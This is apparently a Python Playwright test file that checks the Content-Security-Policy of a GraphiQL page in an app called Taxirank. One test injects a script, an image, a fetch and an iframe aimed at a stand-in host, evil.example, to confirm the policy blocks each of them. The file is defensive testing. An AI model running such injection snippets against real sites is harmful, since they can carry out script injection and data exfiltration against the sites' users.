"""GraphiQL, and the page without a build, respect their Content-Security-Policy."""

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio
from playwright.async_api import expect

from application.settings import Settings
from tests.browser.conftest import NewContext
from tests.browser.graphiql_page import GraphiQLPage
from tests.conftest import LiveServer, serving

pytestmark = [
    pytest.mark.attack("cross-site"),
    pytest.mark.parametrize("backend", ["embedded"], indirect=True),
]

MY_TRIPS = "subscription { myTripsUpdated { __typename } }"


async def test_the_build_runs_a_query_and_a_subscription_and_violates_no_policy(graphiql: GraphiQLPage) -> None:
    await graphiql.choose_tab("SignUpRider")
    await graphiql.run()
    await graphiql.shows('"firstName": "Robin"')
    await graphiql.write(MY_TRIPS)
    await graphiql.run()
    await graphiql.shows('"MyTripsSnapshot"')
    assert graphiql.sockets != []
    assert graphiql.errors == []

    # The policy is in force, and its violations are seen.
    assert await graphiql.page.evaluate(INJECT) == ["script-src-elem", "img-src", "connect-src", "frame-src"]


INJECT = """async () => {
    const seen = [];
    const violation = () => new Promise((resolve) => addEventListener("securitypolicyviolation",
        ({ effectiveDirective }) => resolve(effectiveDirective), { once: true }));
    const load = (name, given) => document.body.append(Object.assign(document.createElement(name), given));
    for (const attack of [
        () => load("script", { textContent: "window.hacked = true" }),
        () => load("img", { src: "https://evil.example/?stolen" }),
        () => fetch("https://evil.example/?stolen").catch(() => {}),
        () => load("iframe", { src: "https://evil.example/" }),
    ]) {
        const seeing = violation();
        attack();
        seen.push(await seeing);
    }
    return window.hacked ? "hacked" : seen;
}"""


@pytest_asyncio.fixture(loop_scope="session")
async def server_without_a_build(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[LiveServer]:
    """A server in a checkout without built pages."""
    monkeypatch.setattr("application.asgi.WEB_BUILD", tmp_path)
    async with serving(settings) as server:
        yield server


@pytest.mark.parametrize("path", ["/", "/graphql"])
async def test_the_page_before_a_build_says_what_to_do_and_loads_nothing(
    path: str, server_without_a_build: LiveServer, new_context: NewContext
) -> None:
    url = server_without_a_build.url
    asked: list[str] = []
    errors: list[str] = []
    page = await (await new_context()).new_page()
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: errors.append(message.text))
    await page.goto(f"{url}{path}")
    await expect(page.get_by_role("heading")).to_have_text("Taxirank is running")
    await expect(page.get_by_role("main")).to_contain_text("uv run --group pages server.py")
    # Its own style applies.
    assert await page.evaluate("getComputedStyle(document.body).maxWidth") != "none"
    assert asked == [f"{url}{path}"]
    assert errors == []
    await page.context.close()
